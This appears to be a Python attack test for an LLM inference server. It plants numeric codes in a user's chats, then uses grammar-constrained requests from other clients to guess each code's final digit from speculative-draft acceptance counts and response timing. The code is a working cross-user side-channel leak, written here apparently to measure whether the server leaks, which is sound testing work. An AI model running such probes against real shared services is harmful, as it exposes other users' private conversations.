"""A program whose grammar forces what it knows of the user's chats, and then allows one digit: were the user's chats
quoted for it, the right digit would be guessed, which the number of guesses tells, and the time.

Each secret is a digit of a number that the user once wrote, of which the program knows the rest.
"""

from __future__ import annotations

from tests.attacks.attack import Outcome, Plan
from tests.attacks.oracle import DIGITS, Guesses, User, asked, words

_SECRETS_AT_ONCE = 20  # in a message of the user
_DIGITS = 5  # of a number; the last one is the secret


def run(plan: Plan) -> Outcome:
    outcome = Outcome()
    by_count, by_time = Guesses("by guesses counted", len(DIGITS)), Guesses("by time", len(DIGITS))
    user, num_requests = User(plan.folder / "data"), 0
    try:
        with user.programs() as programs:
            for first in range(0, plan.count, _SECRETS_AT_ONCE):
                dice = plan.dice(first)
                numbers = {
                    words(dice, 4): "".join(dice.choice(DIGITS) for _ in range(_DIGITS))
                    for _ in range(min(_SECRETS_AT_ONCE, plan.count - first))
                }
                user.says(" ".join(f"The code of the {name} is {number}." for name, number in numbers.items()))
                for name, number in numbers.items():
                    http = dice.choice(programs)
                    told = {}
                    for digit in dice.sample(DIGITS, len(DIGITS)):
                        grammar = f'root ::= "The code of the {name} is {number[:-1]}" [{digit}] "."'
                        told[digit] = asked(http, f"Write {words(dice, 1)}.", grammar=grammar, max_tokens=100)
                        num_requests += 1
                    by_count.note(max(told, key=lambda digit: told[digit]["draft_n_accepted"]) == number[-1])
                    by_time.note(min(told, key=lambda digit: told[digit]["predicted_ms"]) == number[-1])
    finally:
        user.close()
    by_count.judge(outcome)
    by_time.judge(outcome)
    outcome.figures["requests"] = str(num_requests)
    return outcome
